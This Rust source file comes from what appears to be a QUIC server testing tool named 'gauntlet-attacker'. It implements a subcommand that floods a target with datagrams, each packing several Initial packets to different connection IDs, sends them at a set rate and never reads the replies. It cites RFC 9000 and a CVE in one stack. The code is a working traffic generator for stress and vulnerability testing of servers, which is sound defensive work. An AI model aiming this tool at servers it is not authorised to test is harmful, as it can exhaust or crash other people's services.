//! Datagrams with Initial packets of several connections (RFC 9000, section 12.2; CVE-2025-54939 in one stack).

use std::io::Write;

use clap::Args;

use super::datagrams::{Hellos, Senders, UNREAD};
use super::start::DRAIN;
use crate::context::{Common, Context, Protocol, SetupError};
use crate::outcome::Outcome;
use crate::pacing::{self, Start};
use crate::quic_wire::{ConnectionId, DATAGRAM_OCTETS};

/// Datagrams with Initial packets of several connections in each
///
/// A start is a datagram of valid Initials with a ClientHello, each to another connection ID, as many as fit 1,200 octets
/// and at most --packets; the last is padded. A server should take the first and ignore those for other connection IDs,
/// and keep nothing of them. Answers are never read.
#[derive(Args, Clone, Debug)]
#[command(after_long_help = "Example:
  gauntlet-attacker coalesced-initials --target 127.0.0.1:4433 --rate 1000 --packets 3")]
pub struct CoalescedInitials {
    #[command(flatten)]
    common: Common,
    /// Packets of a datagram at most
    #[arg(long, default_value_t = 3, value_name = "COUNT", value_parser = clap::value_parser!(u8).range(2..=10))]
    packets: u8,
}

impl CoalescedInitials {
    /// Runs it.
    ///
    /// # Errors
    /// If it cannot begin, or a line cannot be written.
    pub async fn run(&self, out: &mut dyn Write) -> Result<(), SetupError> {
        let context = Context::new(&self.common, &[Protocol::H3])?;
        let (hellos, senders) = (Hellos::new(&context)?, Senders::new(&context, UNREAD)?);
        context.begin();
        let mut number = 0;
        let mut datagram = Vec::with_capacity(1500);
        pacing::run(context.schedule(), &context.tally, DRAIN, out, |due| {
            let sent = fill(&context, &hellos, number, self.packets, &mut datagram)
                .and_then(|()| senders.send(&context, context.sources.turn(), &datagram));
            context.tally.sent(due);
            context.tally.ended(sent.err().unwrap_or(Outcome::Ok));
            number += u64::from(self.packets);
            Start::Offered
        })
        .await?;
        Ok(())
    }
}

/// Fills a datagram with Initials to different connection IDs.
fn fill(
    context: &Context,
    hellos: &Hellos,
    first: u64,
    packets: u8,
    datagram: &mut Vec<u8>,
) -> Result<(), Outcome> {
    datagram.clear();
    for index in 0..packets {
        let hello = hellos.at(first + u64::from(index));
        let destination = ConnectionId::of(context.random());
        let before = datagram.len();
        hello.seal(datagram, destination, 0, 0).map_err(|_| Outcome::Tls)?;
        // All take about as much as this one.
        let each = datagram.len() - before;
        if index + 1 == packets || datagram.len() + each > DATAGRAM_OCTETS {
            datagram.truncate(before);
            hello.seal(datagram, destination, 0, DATAGRAM_OCTETS - before).map_err(|_| Outcome::Tls)?;
            break;
        }
    }
    Ok(())
}
